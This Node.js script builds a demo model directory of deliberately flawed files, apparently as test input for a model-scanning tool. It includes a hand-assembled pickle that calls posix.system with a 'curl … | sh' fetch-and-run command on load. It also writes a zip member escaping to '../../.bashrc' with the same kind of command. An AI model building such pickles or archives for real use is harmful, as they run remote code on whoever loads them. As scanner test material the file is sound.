#!/usr/bin/env node
// Writes examples/demo-model: a small model directory with a few real problems for the quick start.
// Run again to regenerate (output is deterministic): node examples/make-demo-model.mjs
import { createHash } from 'node:crypto';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { crc32 } from 'node:zlib';

const out = new URL('./demo-model/', import.meta.url).pathname;
rmSync(out, { recursive: true, force: true });
mkdirSync(out, { recursive: true });

/** A safetensors file: tensors laid out contiguously; payload bytes are a simple pattern. */
function safetensors(tensors, { extraBytes = 0, metadata } = {}) {
  const sizes = { F16: 2, BF16: 2, F32: 4 };
  const header = metadata ? { __metadata__: metadata } : {};
  let offset = 0;
  for (const [name, { dtype, shape }] of Object.entries(tensors)) {
    const length = shape.reduce((a, b) => a * b, 1) * sizes[dtype];
    header[name] = { dtype, shape, data_offsets: [offset, offset + length] };
    offset += length;
  }
  let text = JSON.stringify(header);
  text = text.padEnd(Math.ceil(text.length / 8) * 8, ' ');
  const prefix = Buffer.alloc(8);
  prefix.writeBigUInt64LE(BigInt(text.length));
  const payload = Buffer.alloc(offset + extraBytes, 0x3c);
  return Buffer.concat([prefix, Buffer.from(text), payload]);
}

/** A zip of stored members, written as PyTorch and most tools write them. */
function zip(members) {
  const locals = [];
  const centrals = [];
  let offset = 0;
  for (const [name, content] of Object.entries(members)) {
    const data = Buffer.from(content);
    const nameBytes = Buffer.from(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc32(data), 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += 30 + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(members).length, 8);
  end.writeUInt16LE(Object.keys(members).length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const layer = (i) => ({ [`model.layers.${i}.weight`]: { dtype: 'F16', shape: [64, 64] }, [`model.layers.${i}.bias`]: { dtype: 'F32', shape: [64] } });

// A clean, sharded checkpoint… except that the index names a shard nobody shipped.
writeFileSync(`${out}model-00001-of-00002.safetensors`, safetensors({ ...layer(0), ...layer(1) }));
writeFileSync(
  `${out}model.safetensors.index.json`,
  `${JSON.stringify(
    {
      metadata: { total_size: 2 * (64 * 64 * 2 + 64 * 4) * 2 },
      weight_map: {
        'model.layers.0.weight': 'model-00001-of-00002.safetensors',
        'model.layers.0.bias': 'model-00001-of-00002.safetensors',
        'model.layers.1.weight': 'model-00001-of-00002.safetensors',
        'model.layers.1.bias': 'model-00001-of-00002.safetensors',
        'model.layers.2.weight': 'model-00002-of-00002.safetensors',
        'model.layers.2.bias': 'model-00002-of-00002.safetensors',
      },
    },
    null,
    2,
  )}\n`,
);
// An adapter with 4 KiB appended after its last tensor: the Rust loader refuses it.
writeFileSync(`${out}adapter_model.safetensors`, safetensors(layer(0), { extraBytes: 4096, metadata: { format: 'pt' } }));
// An archive whose member escapes the extraction directory.
writeFileSync(`${out}extras.zip`, zip({ 'extras/notes.txt': 'training notes\n', '../../.bashrc': 'curl http://example.invalid/x | sh\n' }));
// A PyTorch checkpoint whose pickle runs a shell command when loaded: GLOBAL posix.system, called
// with one string (protocol 2, written opcode by opcode; nothing here is ever unpickled).
const command = 'curl -s http://example.invalid/payload | sh';
const pickle = Buffer.concat([
  Buffer.from([0x80, 0x02]), // PROTO 2
  Buffer.from('cposix\nsystem\n', 'latin1'), // GLOBAL posix.system
  Buffer.from([0x58]), // BINUNICODE
  (() => {
    const length = Buffer.alloc(4);
    length.writeUInt32LE(Buffer.byteLength(command));
    return length;
  })(),
  Buffer.from(command),
  Buffer.from([0x85, 0x52, 0x2e]), // TUPLE1, REDUCE, STOP
]);
writeFileSync(`${out}pytorch_model.bin`, zip({ 'pytorch_model/data.pkl': pickle, 'pytorch_model/version': '3\n' }));
// Dependencies: a torchvision that does not belong with this torch, and a second package index.
writeFileSync(
  `${out}requirements.txt`,
  '--extra-index-url https://download.pytorch.org/whl/cu118\ntorch==2.1.0\ntorchvision==0.17.0\ntransformers>=4.30\n',
);
writeFileSync(`${out}config.json`, `${JSON.stringify({ architectures: ['DemoForCausalLM'], hidden_size: 64, num_hidden_layers: 3 }, null, 2)}\n`);
writeFileSync(`${out}README.md`, '---\nlicense: apache-2.0\n---\n# demo-model\n\nA tiny model directory for the modelgate quick start.\n');
// The card says Apache-2.0, the LICENSE file holds the MIT text (from the SPDX list the licence plugin uses).
const spdx = createRequire(new URL('../plugins/license/package.json', import.meta.url))('spdx-license-list/full');
writeFileSync(`${out}LICENSE`, spdx.MIT.licenseText.replace('<year>', '2024').replace('<copyright holders>', 'Demo Model Authors'));
// Checksums as published, but config.json was edited afterwards.
const digest = (text) => createHash('sha256').update(text).digest('hex');
writeFileSync(`${out}SHA256SUMS`, `${digest('{"hidden_size": 4096}\n')}  config.json\n`);
console.log(`wrote ${out}`);
